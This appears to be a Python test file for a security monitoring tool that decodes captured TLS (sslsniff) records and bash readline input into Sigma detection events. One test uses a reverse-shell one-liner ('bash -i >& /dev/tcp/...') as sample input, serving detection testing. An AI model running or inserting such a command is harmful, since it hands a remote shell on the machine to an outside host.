"""sslsniff records -> Events (chunks joined, cuts and losses counted), their text form,
and the user-space layer's Sigma events (shell_command, tls) from the mapper."""

from __future__ import annotations

import argparse
import struct

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from probewatch.cli.sslsniff import format_event, hexdump, size_arg
from probewatch.collect.bpf.loader import HDR, READLINE
from probewatch.collect.bpf.ssl import (
    CHUNK,
    CONN,
    CUT,
    EV_SSL,
    FAULT,
    FUNC_IDS,
    LAST,
    SOCK,
    SSL,
    SSL_SIZE,
    SslDecoder,
)
from probewatch.detect.mapping import Mapper
from probewatch.event import Event

LIBS = {1: ("/usr/lib/x86_64-linux-gnu/libssl.so.3", "openssl")}


def rec(data: bytes, *, fn: str = "SSL_write", ln: int | None = None,
        captured: int | None = None, off: int = 0, flags: int = LAST | SOCK,
        tid: int = 77, start: int = 1000, ts: int = 5000, fd: int = 5) -> bytes:
    ln = len(data) if ln is None else ln
    captured = len(data) if captured is None else captured
    h = HDR.pack(EV_SSL, 0, 1, ts, 70, tid, 1, 0, 0, 0, 0, b"curl")
    body = SSL.pack(start, 0xdead, 1 << 8 | FUNC_IDS[fn], flags, ln, captured, off, len(data))
    conn = CONN.pack(fd, 2, 40000, 443, 0, bytes([127, 0, 0, 1]) + bytes(12),
                     bytes([10, 1, 2, 3]) + bytes(12))
    return h + body + conn + data


def test_layout_matches_the_c_header() -> None:
    assert SSL_SIZE == 152  # struct pw_ssl in sslsniff.h
    assert CHUNK == 8192


def test_one_record_one_event_with_its_connection() -> None:
    ev = SslDecoder(LIBS).decode(rec(b"GET / HTTP/1.1\r\n\r\n"))
    assert ev is not None and ev.event == "tls:write" and ev.comm == "curl"
    f = ev.fields
    assert f["data"] == "GET / HTTP/1.1\r\n\r\n" and f["len"] == 18 and f["cut"] == 0
    assert (f["saddr"], f["sport"], f["daddr"], f["dport"], f["fd"]) == (
        "127.0.0.1", 40000, "10.1.2.3", 443, 5)
    assert f["latency_ns"] == 4000 and f["library"] == "openssl" and f["conn"] == "0xdead"
    assert f["lib"].endswith("libssl.so.3") and f["direction"] == "write"


def test_chunks_join_and_the_cut_is_counted() -> None:
    dec = SslDecoder(LIBS)
    a, b = b"x" * CHUNK, b"y" * 100
    total = 1 << 20
    cap = CHUNK + 100
    assert dec.decode(rec(a, ln=total, captured=cap, flags=SOCK | CUT, fn="SSL_read")) is None
    ev = dec.decode(rec(b, ln=total, captured=cap, off=CHUNK, flags=SOCK | CUT | LAST,
                        fn="SSL_read"))
    assert ev is not None and ev.event == "tls:read"
    assert ev.fields["data"] == (a + b).decode() and ev.fields["cut"] == total - cap
    assert ev.fields["truncated"] == ["data"] and "lost_bytes" not in ev.fields


def test_a_lost_middle_chunk_is_counted_not_hidden() -> None:
    dec = SslDecoder(LIBS)
    cap = 3 * CHUNK
    dec.decode(rec(b"a" * CHUNK, ln=cap, captured=cap, flags=SOCK))
    ev = dec.decode(rec(b"c" * CHUNK, ln=cap, captured=cap, off=2 * CHUNK))
    assert ev is not None and ev.fields["lost_bytes"] == CHUNK and dec.lost_bytes == CHUNK
    assert len(ev.fields["data"]) == 2 * CHUNK


def test_a_call_whose_last_chunk_was_lost_comes_out_with_the_next_call() -> None:
    dec = SslDecoder(LIBS)
    assert dec.decode(rec(b"a" * CHUNK, ln=2 * CHUNK, captured=2 * CHUNK, flags=SOCK)) is None
    ev = dec.decode(rec(b"next", start=2000))
    assert ev is not None and ev.fields["data"] == "next"
    [old] = dec.take_stale()
    assert old.fields["lost_bytes"] == CHUNK and old.fields["data"] == "a" * CHUNK


def test_unknown_socket_and_fault() -> None:
    ev = SslDecoder(LIBS).decode(rec(b"", ln=10, captured=10, flags=LAST | FAULT))
    assert ev is not None and ev.fields["fd"] == -1 and "daddr" not in ev.fields
    assert ev.fields["faults"] == ["data"]


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=400))
def test_fuzz_never_raises_and_never_invents_data(raw: bytes) -> None:
    dec = SslDecoder(LIBS)
    ev = dec.decode(raw)
    if ev is not None:
        data = str(ev.fields["data"]).encode("utf-8", "surrogateescape")
        assert data in raw and len(data) <= ev.fields["captured"]


@given(st.binary(max_size=300))
def test_fuzz_real_records_round_trip(data: bytes) -> None:
    ev = SslDecoder(LIBS).decode(rec(data))
    assert ev is not None
    assert str(ev.fields["data"]).encode("utf-8", "surrogateescape") == data


def test_text_form_escapes_and_marks_the_cut() -> None:
    ev = SslDecoder(LIBS).decode(rec(b"ab\x1b[2J\r\nline2\n", ln=100))
    assert ev is not None
    lines = format_event(ev, ev.ts, hexd=False, data=True)
    assert lines[0].startswith("WRITE/SEND ") and "10.1.2.3:443" in lines[0]
    assert lines[1:4] == ["----- DATA -----", "ab\\x1b[2J\\r", "line2"]
    assert lines[4] == ("----- END DATA (86 of 100 bytes not captured: beyond --max-bytes) "
                        "-----")
    assert hexdump(b"GET /\x00")[0] == "00000000  47 45 54 20 2f 00" + " " * 30 + "  |GET /.|"


def test_size_arg() -> None:
    assert size_arg("16K") == 16384 and size_arg("1M") == 1 << 20 and size_arg("100") == 100
    for bad in ("5M", "x", "-1"):
        with pytest.raises(argparse.ArgumentTypeError):
            size_arg(bad)


def _mapper() -> Mapper:
    from probewatch.analyze.proctable import ProcessTable

    return Mapper(ProcessTable(proc_root="/nonexistent-pw-proc"))


def test_typed_line_becomes_shell_command() -> None:
    h = HDR.pack(7, 0, 0, 10, 321, 321, 1, 0, 0, 0, 0, b"bash")
    line = b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
    raw = h + READLINE.pack(len(line) + 1, 0, line)
    from probewatch.collect.bpf.loader import RecordDecoder, syscall_table

    ev = RecordDecoder(syscall_table("")).decode(raw)
    assert ev is not None and ev.event == "bash:readline"
    [sev] = _mapper().map(ev)
    assert sev.kind == "shell_command" and sev.pid == 321
    assert sev.fields["Command"] == line.decode() and sev.fields["Truncated"] is False
    assert sev.fields["ProcessId"] == 321 and sev.fields["Comm"] == "bash"


def test_tls_record_becomes_tls_event() -> None:
    ev = SslDecoder(LIBS).decode(rec(b"-----BEGIN RSA PRIVATE KEY-----\n"))
    assert ev is not None
    [sev] = _mapper().map(ev)
    assert sev.kind == "tls"
    f = sev.fields
    assert f["Direction"] == "write" and f["Data"].startswith("-----BEGIN RSA")
    assert (f["DestinationIp"], f["DestinationPort"], f["SourceIp"], f["SourcePort"]) == (
        "10.1.2.3", 443, "127.0.0.1", 40000)
    assert f["Library"] == "openssl" and f["Function"] == "SSL_write" and f["Fd"] == 5
    assert f["DataLength"] == f["Captured"] == 32 and f["Cut"] == 0
    assert Mapper(kinds=["syscall"], table=_mapper().table).map(ev) == []


def test_shared_ring_dispatch_sends_each_record_to_its_decoder() -> None:
    from probewatch.collect.bpf.loader import RecordDecoder, syscall_table
    from probewatch.ssl_session import _Dispatch

    d = _Dispatch(RecordDecoder(syscall_table("")), SslDecoder(LIBS))
    h = HDR.pack(7, 0, 0, 10, 321, 321, 1, 0, 0, 0, 0, b"bash")
    a = d.decode(h + READLINE.pack(3, 0, b"ls"))
    b = d.decode(rec(b"hi"))
    assert isinstance(a, Event) and a.event == "bash:readline"
    assert isinstance(b, Event) and b.event == "tls:write"
    assert struct.unpack_from("<H", rec(b""))[0] == EV_SSL


def test_watch_arms_the_user_layer_only_for_rules_that_use_it() -> None:
    from pathlib import Path

    from probewatch.detect.engine import RuleSet
    from probewatch.detect.mapping import rule_kinds
    from probewatch.detect.pipeline import _user_layer

    rules = Path(__file__).resolve().parents[2] / "src" / "probewatch" / "detect" / "rules"
    only_files = RuleSet.load([rules / "shadow_read.yml"], default=False)
    assert _user_layer(object(), only_files, None, None, "/bin/bash", 4096, []) is None
    shipped = RuleSet.load([], default=True)
    kinds = rule_kinds(shipped)
    assert kinds is not None and {"tls", "shell_command"} <= kinds
    assert _user_layer(object(), shipped, False, False, "/bin/bash", 4096, []) is None
